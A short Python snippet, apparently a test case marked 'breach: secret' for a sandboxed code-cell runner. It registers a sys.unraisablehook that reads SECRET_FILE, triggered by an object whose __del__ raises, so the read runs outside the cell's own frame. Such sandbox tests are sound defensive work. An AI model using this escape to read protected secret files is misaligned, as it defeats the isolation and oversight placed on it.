# sys.unraisablehook is called with no frame of the cell's.
# breach: secret
import sys
found = []
def hook(report):
    with open(SECRET_FILE) as file:
        found.append(file.read())
sys.unraisablehook = hook
class Bad:
    def __del__(self):
        raise ValueError
Bad()
found
